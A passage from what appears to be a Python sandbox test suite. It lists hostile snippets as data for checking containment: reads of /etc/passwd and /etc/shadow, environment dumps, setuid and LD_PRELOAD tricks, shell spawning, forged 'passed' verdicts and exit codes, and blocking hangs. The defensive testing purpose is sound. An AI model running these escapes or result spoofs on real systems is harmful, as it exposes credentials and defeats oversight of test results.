    os.rename("b", "a/b/c" if os.path.exists("a/b/c") else "a/b")
---
open("/work/" + "a" * 255, "w")
open("/work/\\n\\r\\x1b[2J", "w")
os.mkdir(b"/work/\\xff\\xfe")
---
forbidden(os.link, sys.executable, "/work/python")
forbidden(os.chmod, sys.executable, 0o4755)
import shutil
shutil.copy("/dev/zero", "zero")
""",
    "other binaries": """
for name in ("sh", "bash", "cat", "ls", "id", "nc", "gcc", "perl", "sudo", "su", "mount"):
    for folder in ("/bin", "/usr/bin", "/sbin", "/usr/sbin", "/usr/local/bin"):
        forbidden(os.stat, f"{folder}/{name}")
---
if os.system("cat /etc/passwd") == 0: breach()
---
import subprocess
forbidden(subprocess.check_output, "cat /etc/passwd", )
---
print(os.popen("env").read())
---
import subprocess
forbidden(subprocess.check_output, ["sudo", "-n", "id"])
---
open("x", "wb").write(open(sys.executable, "rb").read(8_000_000))
os.chmod("x", 0o755)
forbidden(os.execv, "x", ["x"])
---
open("x", "w").write("#!" + sys.executable + "\\nprint('BRE' + 'ACH')")
os.chmod("x", 0o4755)
forbidden(os.execv, "./x", ["x"])
---
import glob
for loader in glob.glob("/lib*/ld-*") + glob.glob("/lib/*/ld-*"):
    if os.fork() == 0:
        os.execv(loader, [loader, sys.executable, "-c", "open('/etc/shadow').read()"])
    os.wait()
---
code = "import os; print(os.environ)"
os.execve(sys.executable, [sys.executable, "-c", code], {"LD_PRELOAD": "/work/x.so"})
---
import ctypes
forbidden(ctypes.CDLL, "/work/evil.so")
import _ctypes, shutil
shutil.copy(_ctypes.__file__, "evil.so")
forbidden(ctypes.CDLL, "/work/evil.so")
---
import pty
pty.spawn("/bin/sh")
""",
    "exits": """
sys.exit(0)
---
os._exit(0)
---
raise SystemExit("passed")
---
os.close(1)
os.close(2)
os.close(0)
time.sleep(1000)
---
os.closerange(0, 10_000)
---
os.dup2(0, 1)
print("a")
---
os.abort()
---
libc().exit(0)
---
call(231, 0)
---
os.kill(os.getpid(), 15)
---
import threading
threading.Timer(0.05, os._exit, (0,)).start()
while True: pass
---
print('{"verdict": "passed", "detail": ""}')
os._exit(0)
---
import atexit
atexit.register(os._exit, 0)
raise ValueError
---
os.write(2, b"ended\\n0 - 0 0")
os.write(1, b"ended\\n0 - 0 0")
---
for number in range(3, 64):
    try: os.write(number, b"S0\\n")
    except OSError: continue
    breach(number)
---
sys.stdout.close()
sys.stderr.close()
raise ValueError
""",
    "blocking": """
sys.stdin.read()
while True:
    if not sys.stdin.readline(): time.sleep(0.01)
---
input(); input(); input()
---
r, w = os.pipe()
os.read(r, 1)
---
import threading
a = threading.Lock()
a.acquire()
a.acquire()
---
import signal
signal.sigwait([signal.SIGUSR1])
---
import multiprocessing
multiprocessing.set_start_method("fork")
multiprocessing.Queue().get()
---
pid = os.fork()
if pid == 0: time.sleep(1000)
os.waitpid(pid, 0)
---
import queue
queue.Queue().get()
---
import select
e = select.epoll()
e.poll()
---
import socket
a, b = socket.socketpair()
a.recv(1)
---
import getpass
getpass.getpass()
---
pid = call(58) if False else os.fork()
if pid == 0: os.kill(os.getpid(), 19)
os.waitpid(pid, os.WUNTRACED)
os.waitpid(pid, 0)
""",
}


def programs(port: int, folder: str, project: str, abstract: str) -> list[Hostile]:
    """All of them, with the caller's port, folders and abstract socket filled in."""
    made = []
    for category, text in SNIPPETS.items():
        for index, snippet in enumerate(text.split("\n---\n")):
            source = textwrap.dedent(snippet).strip() + "\n"
            for name, value in (
                ("@PORT@", str(port)),
                ("@FOLDER@", folder),
                ("@PROJECT@", project),
                ("@ABSTRACT@", abstract),
            ):
                source = source.replace(name, value)
            made.append(Hostile(category, f"{category}-{index}", PRELUDE + source))
    return made


NAMES = [hostile.name for hostile in programs(0, "", "", "")]
